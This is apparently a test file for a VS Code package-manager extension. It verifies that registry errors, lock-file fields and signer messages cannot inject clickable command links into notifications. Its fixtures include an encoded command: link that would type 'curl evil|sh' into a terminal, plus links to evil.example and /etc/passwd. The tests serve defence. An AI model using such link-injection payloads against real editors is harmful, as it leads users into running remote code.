import { after, before, beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as vscode from '../helpers/vscode-mock.ts';
import { useVscodeMock } from '../helpers/vscode-mock.ts';

useVscodeMock();
const { inert, notice } = await import('../../src/extension/notification-text.ts');
const { installPackage } = await import('../../src/extension/install-package.ts');
const { commandHandlers } = await import('../../src/extension/commands.ts');
const { trustSigner } = await import('../../src/extension/trust-signer.ts');

/**
 * How VS Code reads a notification's message (workbench/common/notifications.ts,
 * parseNotificationMessage): line breaks become spaces, then LINK_REGEX of
 * base/common/linkedText.ts finds the links, which a click opens with
 * commands allowed. Returns the targets it would make links of.
 */
const LINK_REGEX = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const linksIn = (message: string) =>
  [
    ...message
      .replace(/(\r\n|\n|\r)/gm, ' ')
      .trim()
      .matchAll(LINK_REGEX),
  ].map((m) => m[2]);

/** What a registry, a lock file or a certificate could say to put a button in our words. */
const RUN = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const HOSTILE = [
  RUN,
  '[x](command:foo)',
  '[x](https://evil.example "Open")',
  "[x](FILE:///etc/passwd 'x')",
  '[x]\n(command:foo)',
  '[[x]](command:foo)',
];

/** Every notification shown while a test runs: its kind and message. */
const shown: { kind: string; message: string }[] = [];
for (const kind of ['Information', 'Warning', 'Error'] as const)
  Object.assign(vscode.window, {
    [`show${kind}Message`]: async (message: string) => void shown.push({ kind, message }),
  });
beforeEach(() => void shown.splice(0));

describe('notifications that quote a registry, a lock file or a signer', () => {
  let registry: ReturnType<typeof createServer>;
  let url = '';
  let said = '';
  before(async () => {
    // A registry that refuses every request, in its own words.
    registry = createServer((_request, response) => {
      response.writeHead(422, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ error: 'unprocessable', message: said }));
    });
    await new Promise<void>((done) => registry.listen(0, '127.0.0.1', done));
    url = `http://127.0.0.1:${(registry.address() as AddressInfo).port}`;
  });
  after(() => registry.close());

  /** Install Package… against the registry, which refuses with `message`: what the error notification says. */
  async function installRefused(message: string): Promise<string> {
    said = message;
    const workspace = {
      kind: 'project',
      paths: { root: '/work/p' },
      config: { registries: [{ name: 'team', type: 'http', url }] },
    };
    await installPackage({ refresh: async () => {}, workspaces: [workspace] } as never);
    assert.equal(shown.length, 1, JSON.stringify(shown));
    assert.equal(shown[0]!.kind, 'Error');
    return shown.splice(0)[0]!.message;
  }

  it("shows a registry's refusal without a link of its own, and its words as it wrote them", async () => {
    for (const hostile of HOSTILE) {
      const message = await installRefused(`Try again: ${hostile} later.`);
      assert.deepEqual(linksIn(message), [], message);
      assert.ok(message.replace(/\] \(/g, '](').includes(hostile), message);
    }
    const plain = await installRefused('The name @acme/x is taken [reserved] (see https://registry.example/help).');
    assert.match(plain, /^Registry "team" refused GET \/.+ \(HTTP 422 unprocessable\): The name @acme\/x is taken/);
    assert.ok(plain.endsWith(': The name @acme/x is taken [reserved] (see https://registry.example/help).'), plain);
  });

  it("shows a lock file's name, version, verdict and findings (Verify Package) without a link", async () => {
    const verify = async (report: object) => {
      const workspace = { id: 'w', reports: [report] };
      const model = { idle: async () => {}, verify: async () => {}, workspaces: [workspace] };
      const none = {} as never;
      const handlers = commandHandlers(model as never, none, none, none, none, none, none);
      await (handlers['aam.verifyPackage'] as (node: unknown) => Promise<void>)({
        kind: 'package',
        workspace,
        report,
      });
      return shown.splice(0);
    };
    const hostile = await verify({
      name: `evil${RUN}`,
      version: '1.0.0 [x](command:foo)',
      verdict: { status: 'signed-untrusted', action: 'fail', message: `Signed by [a](https://evil.example)` },
      findings: [{ code: 'SIGNER_CHANGED', action: 'fail', message: '[b](file:///etc/passwd)' }],
    });
    assert.equal(hostile.length, 1);
    assert.deepEqual(linksIn(hostile[0]!.message), [], hostile[0]!.message);
    const good = await verify({
      name: 'good',
      version: '1.2.3',
      verdict: {
        status: 'verified',
        action: 'pass',
        message: 'Signed by alice@example.com (issuer https://x.example).',
      },
      findings: [],
    });
    assert.deepEqual(good, [
      {
        kind: 'Information',
        message: 'good@1.2.3: verified — Signed by alice@example.com (issuer https://x.example).',
      },
    ]);
  });

  it("says a lock file's package name in our words (Trust Signer) without a link", async () => {
    for (const name of ['[x](command:foo)', 'good']) {
      const workspace = { id: 'w', reports: [{ name, verdict: { status: 'unsigned' } }] };
      await trustSigner({ workspaces: [workspace] } as never, { workspaceId: 'w', packageName: name });
      assert.deepEqual(linksIn(shown[0]!.message), []);
      assert.equal(shown.splice(0)[0]!.message.replace('] (', ']('), `${name} has no verified signer to trust.`);
    }
  });
});

describe('inert() and notice() (notification-text.ts)', () => {
  it('leave no text, alone or beside our words or another datum, that VS Code would make a link of', () => {
    for (const hostile of HOSTILE) {
      assert.deepEqual(linksIn(inert(hostile)), [], hostile);
      assert.deepEqual(linksIn(notice('Could not {0}: {1}', hostile, hostile)), []);
    }
    // A datum ending in `]` or starting with `(`: the other half could come from beside it.
    assert.deepEqual(linksIn(notice('{0}{1}', '[x]', '(command:foo)')), []);
    assert.deepEqual(linksIn(`${inert('[x]')}(command:foo) [y]${inert('(command:foo)')}`), []);
  });

  it('leave text without `](` as it is, and add nothing invisible', () => {
    for (const plain of ['alice@example.com', '@acme/x@1.2.3', '[draft] (see https://x.example)', 'a (b) [c] d'])
      assert.equal(inert(plain), plain);
    assert.equal(inert('[x](command:foo)'), '[x] (command:foo)');
    assert.equal(inert(inert('[x](y)]')), inert('[x](y)]'));
    assert.equal(notice('Signed in to {0} as {1}.', 'team', 'alice'), 'Signed in to team as alice.');
    assert.equal(notice('{0} of {1} packages', 3, 4), '3 of 4 packages');
  });
});

/**
 * The first argument of each `vscode.window.show*Message(` call in `source`
 * (strings and template literals skipped whole, brackets matched).
 */
function messagesIn(source: string): string[] {
  const found: string[] = [];
  for (const call of source.matchAll(/window\.show(?:Information|Warning|Error)Message\(/g)) {
    const from = call.index + call[0].length;
    found.push(source.slice(from, endOf(source, from, true)).trim());
  }
  return found;
}

/** Where the expression starting at `from` ends: a closing bracket at its own depth, or (`atComma`) a `,`. */
function endOf(source: string, from: number, atComma = false): number {
  let depth = 0;
  for (let i = from; i < source.length; i++) {
    const c = source[i]!;
    if (c === "'" || c === '"' || c === '`') i = endOfString(source, i);
    else if ('([{'.includes(c)) depth++;
    else if (depth === 0 && (')]}'.includes(c) || (atComma && c === ','))) return i;
    else if (')]}'.includes(c)) depth--;
  }
  return source.length;
}

function endOfString(source: string, from: number): number {
  for (let i = from + 1; i < source.length; i++) {
    if (source[i] === '\\') i++;
    else if (source[from] === '`' && source.startsWith('${', i)) i = endOf(source, i + 2);
    else if (source[i] === source[from]) return i;
  }
  return source.length;
}

describe('every notification of the extension (src/extension)', () => {
  it('says data through notice() or inert(): its message holds nothing else but our words and variables', async () => {
    const dir = join(import.meta.dirname, '..', '..', 'src', 'extension');
    const loose: string[] = [];
    for (const file of (await readdir(dir)).filter((f) => f.endsWith('.ts'))) {
      for (const message of messagesIn(await readFile(join(dir, file), 'utf8'))) {
        // What is left once the calls that make data inert, and our own words, are taken out.
        let rest = message;
        for (const call of ['notice(', 'inert(', 'vscode.l10n.t(']) {
          for (let at = rest.indexOf(call); at !== -1; at = rest.indexOf(call)) {
            const end = endOf(rest, at + call.length);
            const words = rest.slice(at + call.length, end).trim();
            const ours = call !== 'vscode.l10n.t(' || (rest[end] === ')' && /^'[^']*'$/.test(words));
            rest = `${rest.slice(0, at)}${ours ? 'ok' : 'DATA'}${rest.slice(end + 1)}`;
          }
        }
        if (!/^[\w\s?:=!&|']*$/.test(rest.replace(/'[^']*'/g, "''")) || rest.includes('DATA'))
          loose.push(`${file}: ${message}`);
      }
    }
    assert.deepEqual(loose, []);
  });
});
